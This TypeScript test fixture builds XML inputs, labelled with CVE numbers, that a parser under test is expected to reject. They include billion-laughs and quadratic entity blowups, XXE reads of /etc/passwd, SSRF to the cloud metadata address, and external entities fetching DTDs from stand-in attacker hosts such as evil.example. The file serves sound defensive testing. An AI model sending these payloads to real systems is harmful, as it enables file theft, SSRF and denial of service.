import { HARMLESS_BODY } from './attack.ts'
import type { End } from './expectation.ts'
import type { Forge } from './forge.ts'
import { PLANTED_BODY } from './planted.ts'

export type XmlRow = readonly [
  what: string,
  end: End,
  body: string | Buffer | ((f: Forge) => string),
]

export const inEvent = (content: string, attributes = '') =>
  HARMLESS_BODY.replace('<ns3:events>', `<ns3:events><ns3:note${attributes}>${content}</ns3:note>`)
const withType = (doctype: string, content = PLANTED_BODY) =>
  inEvent(content).replace('<S:Envelope', `${doctype}<S:Envelope`)
export const numbered = (count: number, part: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => part(index)).join('')

/** Ten entities, each ten times the one before. */
const LAUGHS = `<!DOCTYPE x [<!ENTITY l0 "${PLANTED_BODY}">${numbered(
  9,
  (index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
)}]>`

/** Documents with a type: refused before an entity is so much as read. */
export const documentTypes: readonly XmlRow[] = [
  ['CVE-2003-1564 a billion laughs', 'xml_doctype', withType(LAUGHS, '&l9;')],
  [
    'CVE-2013-0340 one entity, a hundred thousand times',
    'xml_doctype',
    withType(`<!DOCTYPE x [<!ENTITY a "${'a'.repeat(1_000)}">]>`, '&a;'.repeat(100_000)),
  ],
  [
    'CVE-2014-3574 an entity of itself',
    'xml_doctype',
    withType('<!DOCTYPE x [<!ENTITY a "&a;">]>', '&a;'),
  ],
  ['CVE-2014-3529 a file', 'xml_doctype', withType(system('file:///etc/passwd'), '&a;')],
  ['CVE-2014-3529 a device', 'xml_doctype', withType(system('file:///dev/zero'), '&a;')],
  ['CVE-2024-22024 a server', 'xml_doctype', (f) => withType(system(`${f.attacker}/x`), '&a;')],
  ['CVE-2013-6429 metadata', 'xml_doctype', withType(system('http://169.254.169.254/'), '&a;')],
  ['CVE-2013-6429 a share', 'xml_doctype', withType(system('\\\\evil.example\\share'), '&a;')],
  ['CVE-2013-6429 ftp', 'xml_doctype', withType(system('ftp://evil.example/x'), '&a;')],
  ['CVE-2013-6429 a filter', 'xml_doctype', withType(system('php://filter/resource=x'), '&a;')],
  ['CVE-2013-6429 a jar', 'xml_doctype', withType(system('jar:http://evil.example!/x'), '&a;')],
  [
    'CVE-2013-6429 a public name',
    'xml_doctype',
    withType('<!DOCTYPE x PUBLIC "-//x//y" "http://e.example/x">'),
  ],
  ['CVE-2024-28757 a parameter', 'xml_doctype', (f) => withType(parameter(f.attacker))],
  [
    'CVE-2024-28757 a type elsewhere',
    'xml_doctype',
    (f) => withType(`<!DOCTYPE x SYSTEM "${f.attacker}/x.dtd">`),
  ],
  ['XML 1.0 2.8 an empty type', 'xml_doctype', withType('<!DOCTYPE x>')],
  ['XML 1.0 2.8 a type with a list', 'xml_doctype', withType('<!DOCTYPE x [<!ELEMENT x ANY>]>')],
  [
    'XML 1.0 3.3 an attribute of a type',
    'xml_doctype',
    withType('<!DOCTYPE x [<!ATTLIST x a CDATA "b">]>'),
  ],
  [
    'CVE-2022-25313 a type of 50,000 levels',
    'xml_doctype',
    withType(`<!DOCTYPE x [<!ELEMENT x ${deepType(50_000)}>]>`),
  ],
  ['XML 1.0 2.8 a type behind a comment', 'xml_doctype', withType('<!-- --><!DOCTYPE x>')],
  [
    'XML 1.0 2.8 a type in UTF-16',
    'xml_doctype',
    Buffer.from(`\ufeff${withType(system('file:///x'))}`, 'utf16le'),
  ],
  [
    'XML 1.0 F a type in UTF-16 without a mark',
    'xml_doctype',
    Buffer.from(withType(system('file:///x')), 'utf16le'),
  ],
  [
    'XML 1.0 F a type in UTF-16 of the other order',
    'xml_doctype',
    Buffer.from(withType('<!DOCTYPE x>'), 'utf16le').swap16(),
  ],
  ['XML 1.0 2.8 a type in small letters', 'xml_malformed', withType('<!doctype x>')],
  ['XML 1.0 2.8 a type in the middle', 'xml_malformed', inEvent('<!DOCTYPE x>')],
]

function system(address: string): string {
  return `<!DOCTYPE x [<!ENTITY a SYSTEM "${address}">]>`
}

function parameter(address: string): string {
  return `<!DOCTYPE x [<!ENTITY % a SYSTEM "${address}/x.dtd"> %a;]>`
}

function deepType(levels: number): string {
  return '('.repeat(levels) + ')'.repeat(levels)
}
